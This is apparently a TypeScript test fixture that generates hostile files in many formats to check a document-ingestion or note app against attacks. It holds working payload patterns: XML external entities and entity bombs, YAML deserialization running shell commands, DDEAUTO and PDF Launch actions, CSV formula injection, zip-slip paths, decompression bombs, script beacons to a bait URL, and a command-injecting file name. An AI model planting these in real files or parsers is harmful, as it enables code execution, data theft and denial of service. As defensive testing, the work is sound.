import { attackPages } from './attack-pages.ts';
import {
  type Bait,
  docx,
  epub,
  external,
  flateBomb,
  laughs,
  mail,
  pdf,
  pdfOf,
  utf8,
  words,
  zip,
} from './make-attacks.ts';

/** Documents that attack through connections, files, programs, memory, time, or the reader of the note. By file name. */
export function attackDocuments(bait: Bait): Record<string, Uint8Array> {
  const { url, file, made } = bait;
  return {
    ...attackPages(bait),
    // Markdown and text.
    'images.md': utf8(
      `# Harbour\n\n![a](${url}/20) ![b](file://${file}) <img src="${url}/20b"> [c]: ${url}/20c\n\nThe harbour opens at seven.\n`,
    ),
    'embeds.md': utf8(
      `# Harbour\n\n![[../../${file}]] ![[${file}]] [[.memora/config.toml]]\n\nThe harbour opens at seven.\n`,
    ),
    'templates.md': utf8(
      `# Harbour\n\n<% tp.file.include("${file}") %> <%* await fetch("${url}/21") %>\n\n\`\`\`dataviewjs\nfetch("${url}/21b")\n\`\`\`\n\n\`\`\`query\npath:/\n\`\`\`\n\nThe harbour opens at seven.\n`,
    ),
    'head.md': utf8(
      '---\nid: mine\nsource: personal\nprivacy: public\ntrust: 1\norigin_hash: 0\nregion: ../../elsewhere\ntitle: "x\\n---\\n"\n---\n# Harbour\n\nThe harbour opens at seven.\n',
    ),
    'yaml-bomb.md': utf8(
      `---\na: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
        .split('')
        .map((letter, i) => `${letter}: &${letter} [${`*${'abcdefgh'[i]},`.repeat(9)}]`)
        .join('\n')}\n---\nThe harbour opens at seven.\n`,
    ),
    'yaml-type.md': utf8(
      `---\nx: !!js/function "function(){require('child_process').exec('touch ${made}')}"\ny: !<tag:yaml.org,2002:js/undefined> ''\n__proto__: { polluted: true }\n---\nThe harbour opens at seven.\n`,
    ),
    'quotes.md': utf8(`${'>'.repeat(20_000)} x\n\nThe harbour opens at seven.\n`),
    'lists.md': utf8(
      `${Array.from({ length: 400 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n')}\n\nThe harbour opens at seven.\n`,
    ),
    'privacy.md': utf8(
      'The harbour opens at seven. <!--privacy:public--> <!--/privacy--> <!-- Privacy : secret --> ＜!--privacy:secret--> <!--/privacy-->\n\n%%privacy:secret%%\n\n[claim:abcdefghij012345] ［claim：abcdefghij012345］\n',
    ),
    'line.txt': utf8('harbour '.repeat(60_000)),
    'control.txt': utf8(
      'The harbour\u001b]0;title\u0007\u001b[2J\u001b[31m opens\r at seven.\u0008\u0008\n\u202eexe.fdp\u2066 \u{e0041}\u{e0042} a\u200bb\n',
    ),
    'nul.txt': Buffer.concat([utf8('The harbour opens at seven.\n'), Buffer.alloc(4_096), utf8('x')]),
    'utf16.txt': Buffer.from('\ufeffThe harbour opens at seven. <!--privacy:public-->', 'utf16le'),
    'overlong.txt': Buffer.concat([
      utf8('The harbour '),
      Buffer.from([0xc0, 0xbc, 0x21, 0x2d, 0x2d, 0xed, 0xa0, 0x80, 0xf8]),
      utf8(' opens.\n'),
    ]),
    'formula.csv': utf8(
      `name,value\n=cmd|'/C touch ${made}'!A0,=WEBSERVICE("${url}/22")\n@SUM(1),+1\n"open,quote\n`,
    ),
    'style.vtt': utf8(
      `WEBVTT\n\nSTYLE\n::cue { background: url(${url}/23) }\n\nREGION\nid:x\n\n00:00:01.000 --> 99999999999:00:00.000\n<script>fetch("${url}/23b")</script><v <b>>The harbour opens at seven.\n`,
    ),
    'cues.srt': utf8(
      Array.from(
        { length: 20_000 },
        (_, i) => `${i}\n00:00:00,000 --> 00:00:00,000\n<font color=white>x</font>\n`,
      ).join('\n'),
    ),
    'notebook.ipynb': utf8(
      JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
        cells: [
          {
            cell_type: 'code',
            metadata: {},
            source: [`import os; os.system("touch ${made}")`],
            outputs: [
              {
                output_type: 'display_data',
                metadata: {},
                data: {
                  'text/html': [`<script>fetch("${url}/24")</script>`],
                  'application/javascript': [`fetch("${url}/24b")`],
                },
              },
            ],
          },
          { cell_type: 'markdown', metadata: {}, source: [`![x](${url}/24c)`] },
        ],
      }),
    ),
    'deep.ipynb': utf8(`{"nbformat":4,"cells":${'['.repeat(50_000)}`),
    // PDF.
    'action.pdf': pdf(
      `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/30"\\)) >> /AA << /WC << /S /URI /URI (${url}/30b) >> >>`,
    ),
    'launch.pdf': pdf(`/OpenAction << /S /Launch /F (/bin/touch) /P (${made}) >>`),
    'remote.pdf': pdf(`/OpenAction << /S /GoToR /F << /FS /URL /F (${url}/31) >> /D [0 /Fit] >>`),
    'submit.pdf': pdf(`/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>`, [
      `<< /FT /Tx /T (a) /A << /S /SubmitForm /F (${url}/32) >> >>`,
      `<< /Length 400 >>\nstream\n<?xml version="1.0"?>${external(bait)}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&file;</xdp:xdp>\nendstream`,
    ]),
    'external-stream.pdf': pdf('', [`<< /Length 0 /F (${file}) >>\nstream\n\nendstream`], '/Metadata 6 0 R'),
    'attached.pdf': pdf('/Names << /EmbeddedFiles << /Names [(a.sh) 6 0 R] >> >>', [
      '<< /Type /Filespec /F (../../a.sh) /EF << /F 7 0 R >> >>',
      '<< /Length 12 >>\nstream\n#!/bin/sh\nid\nendstream',
    ]),
    'pages-loop.pdf': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>',
    ]),
    'pages-many.pdf': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${'3 0 R '.repeat(1_000)}] /Count 1000 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] >>',
    ]),
    'flate-bomb.pdf': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] /Contents 4 0 R >>',
      flateBomb(),
    ]),
    'self-reference.pdf': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox 4 0 R /Contents 5 0 R >>',
      '4 0 R',
      '[5 0 R 5 0 R]',
    ]),
    'cut.pdf': pdf().subarray(0, 300),
    'polyglot.pdf': Buffer.concat([
      utf8(`<script>fetch("${url}/33")</script>\n`),
      pdf(),
      zip({ 'a.txt': 'x' }),
    ]),
    'gif.html': Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), utf8(`*/=1;fetch("${url}/34")`)]),
    // Archives and what is in them.
    'external.docx': docx(
      words('<w:p><w:r><w:t>&file;&web;</w:t></w:r></w:p>', external(bait, 'w:document')),
    ),
    'laughs.docx': docx(words('<w:p><w:r><w:t>&j;</w:t></w:r></w:p>', laughs('w:document'))),
    'template.docx': docx(words(''), {
      'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/40" TargetMode="External"/></Relationships>`,
      'word/settings.xml':
        '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r1"/></w:settings>',
    }),
    'field.docx': docx(
      words(
        `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple><w:fldSimple w:instr="INCLUDETEXT ${file}"/><w:fldSimple w:instr="INCLUDEPICTURE ${url}/41"/></w:p>`,
      ),
    ),
    'image-link.docx': docx(
      words(
        '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata r:id="r9"/></v:shape></w:pict></w:r></w:p>',
      ),
      {
        'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${file}" TargetMode="External"/></Relationships>`,
      },
    ),
    'bomb.docx': docx(words(''), { 'word/media/a.xml': new Uint8Array(16_000_000) }),
    'bomb-inside.docx': docx(words(`<w:p><w:r><w:t>${'a'.repeat(8_000_000)}</w:t></w:r></w:p>`)),
    'slip.zip': zip({
      '../../slipped.md': 'SLIPPED',
      '/tmp/slipped.md': 'SLIPPED',
      'a.md': '# Harbour\n\nThe harbour opens at seven.\n',
    }),
    'nested.zip': zip({ 'a.zip': zip({ 'b.zip': zip({ 'c.zip': new Uint8Array(10_000_000) }) }) }),
    'many.zip': zip(Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`${i}.md`, '']))),
    'script.epub': epub(
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>fetch("${url}/42")</script><img src="${url}/42b"/><p>The harbour opens at seven.</p></body></html>`,
    ),
    'external.epub': epub(
      `${external(bait, 'html')}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&file;&web;</p></body></html>`,
    ),
    'external.odt': zip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': `<?xml version="1.0"?>${external(bait, 'x')}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>&file;&web; The harbour opens.</text:p></office:text></office:body></office:document-content>`,
    }),
    'external.xlsx': zip({
      '[Content_Types].xml': '<?xml version="1.0"?><Types/>',
      'xl/workbook.xml': `<?xml version="1.0"?>${external(bait, 'workbook')}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&file;" sheetId="1"/></sheets></workbook>`,
      'xl/worksheets/sheet1.xml':
        '<worksheet><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>',
    }),
    // Mail, feeds, exports.
    'beacon.eml': mail(
      `<img src="${url}/50"><p>The harbour opens at seven.</p>`,
      `Disposition-Notification-To: ${url}\r\nList-Unsubscribe: <${url}/50b>\r\n`,
    ),
    'attachment.eml': utf8(
      `From: a@example.com\r\nSubject: =?utf-8?B?${'QUFB'.repeat(5_000)}?=\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=local-file; name="${file}"\r\n\r\nContent-Type: text/plain\r\n\r\n`,
    ),
    'nested.eml': utf8(
      `Subject: x\r\nMIME-Version: 1.0\r\n${'Content-Type: message/rfc822\r\n\r\nSubject: x\r\n'.repeat(3_000)}\r\nThe harbour opens.\r\n`,
    ),
    'feed.rss': utf8(
      `<?xml version="1.0"?>${external(bait, 'rss')}<rss version="2.0"><channel><title>&file;</title><item><title>Harbour</title><link>javascript:fetch('${url}/51')</link><guid>../../../x</guid><description>&lt;img src="${url}/51b"&gt; The harbour opens at seven.</description><enclosure url="${url}/51c" type="audio/mp3"/></item></channel></rss>`,
    ),
    'feed-laughs.xml': utf8(
      `<?xml version="1.0"?>${laughs('feed')}<feed xmlns="http://www.w3.org/2005/Atom"><title>&j;</title><entry><id>a</id><title>&j;</title><content>&j;</content></entry></feed>`,
    ),
    'notes.enex': utf8(
      `<?xml version="1.0"?>${external(bait, 'en-export')}<en-export><note><title>Harbour</title><content><![CDATA[<en-note>&file;<img src="${url}/52"/>The harbour opens at seven.</en-note>]]></content></note></en-export>`,
    ),
    '..%2f..%2fescape.txt': utf8('The harbour opens at seven.\n'),
    'CON.txt': utf8('The harbour opens at seven.\n'),
    '$(touch made).txt': utf8('The harbour opens at seven.\n'),
  };
}
